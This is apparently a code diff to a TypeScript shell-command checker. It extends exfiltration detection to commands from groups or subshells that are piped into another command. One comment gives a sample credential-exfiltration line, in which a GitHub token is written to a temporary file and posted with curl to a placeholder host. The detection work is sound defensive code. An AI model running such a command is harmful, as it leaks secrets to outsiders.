@@ -100,6 +100,8 @@ interface CommandShape extends ArgvView {
   unit: number;
   /** The command whose output this one reads through a pipe. */
   pipedFrom: CommandShape | null;
+  /** Every command of a group or subshell piped in (textCommands.ts `pipedGroup`), or undefined. */
+  pipedGroup?: readonly CommandShape[];
   /** Where it runs and how its paths land (the path resolver's walk along the line). */
   place: PathPlace;
   /** Heredoc or here-string text on stdin. */
@@ -200,6 +202,7 @@ function shapesOfSegments(segments: readonly Segment[], start: PathPlace, record
       redirects: segment.redirects,
       unit,
       pipedFrom: piped ? shapes[index - 1]! : null,
+      pipedGroup: undefined,
       place: places[index]!,
       stdinText: segment.hereText?.body ?? null,
       assignments: segment.assignments,
@@ -1033,14 +1036,20 @@ function checkSendingUnits(commands: readonly CommandShape[], context: Context):
     const at = new Map<CommandShape, number>();
     for (let k = 0; k < unit.length; k++) at.set(unit[k]!, k);
     const found = checkExfiltration(
-      unit.map((command) => ({ record: recordOfView(command), redirects: command.redirects, pipedFrom: command.pipedFrom === null ? -1 : (at.get(command.pipedFrom) ?? -1), place: command.place })),
+      unit.map((command) => ({ record: recordOfView(command), redirects: command.redirects, pipedFrom: command.pipedFrom === null ? -1 : (at.get(command.pipedFrom) ?? -1), pipedGroup: groupIndexes(command, (member) => at.get(member) ?? -1), place: command.place })),
       context.home,
       openSocket,
     );
     if (found !== null) return found;
   }
   // Through a file written earlier on the line (`gh auth token > /tmp/t; curl -d @/tmp/t h`).
-  return checkThroughFiles(commands.map((command) => ({ record: recordOfView(command), redirects: command.redirects, pipedFrom: command.pipedFrom === null ? -1 : commands.indexOf(command.pipedFrom), place: command.place, unit: command.unit })));
+  return checkThroughFiles(commands.map((command) => ({ record: recordOfView(command), redirects: command.redirects, pipedFrom: command.pipedFrom === null ? -1 : commands.indexOf(command.pipedFrom), pipedGroup: groupIndexes(command, (member) => commands.indexOf(member)), place: command.place, unit: command.unit })));
+}
+
+/** The indexes (by `indexOf`) of the commands of a group piped into `command`, or undefined. */
+function groupIndexes(command: CommandShape, indexOf: (member: CommandShape) => number): number[] | undefined {
+  if (command.pipedGroup === undefined) return undefined;
+  return command.pipedGroup.map(indexOf).filter((index) => index >= 0);
 }
 
 /** The arguments `echo`/`printf`/zsh's `print` print (after their own flags), or null for other programs. */
